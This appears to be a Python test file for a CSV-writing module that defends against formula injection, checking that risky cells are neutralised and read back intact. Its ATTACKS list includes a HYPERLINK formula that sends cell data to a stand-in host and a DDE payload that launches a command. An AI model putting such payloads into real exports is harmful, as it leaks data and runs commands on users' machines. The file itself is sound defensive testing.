"""Formula cells are neutralized in every CSV emhana writes (OWASP "CSV Injection"; emhana/kernel/csvsafe.py)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from emhana.kernel import csvsafe

PACKAGE = Path(csvsafe.__file__).resolve().parents[1]
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_text_that_starts_a_formula_is_guarded_and_reads_back(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value
    assert csvsafe.unguard(csvsafe.cell(value)) == value


@pytest.mark.parametrize("value", ["Емхана", "0-4", "65+", "-3", "+7.5", "", "'quoted", 42, None])
def test_plain_values_and_numbers_stay_as_they_are(value: object) -> None:
    assert csvsafe.cell(value) == value
    if isinstance(value, str):
        assert csvsafe.unguard(value) == value


def test_both_writers_guard_every_cell() -> None:
    buf = io.StringIO()
    csvsafe.Writer(buf, lineterminator="\n").writerows([["a", "=1+1"], ["@x", 5]])
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"a": "-x", "b": "ok"}])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["a", "'=1+1"], ["'@x", "5"]]
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b"], ["'-x", "ok"]]


def test_no_csv_is_written_outside_the_safe_writers() -> None:
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offending = [
        str(path.relative_to(PACKAGE.parent))
        for path in sorted(PACKAGE.rglob("*.py"))
        if path.name != "csvsafe.py" and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert not offending, f"write CSV with emhana.kernel.csvsafe.Writer or DictWriter: {offending}"
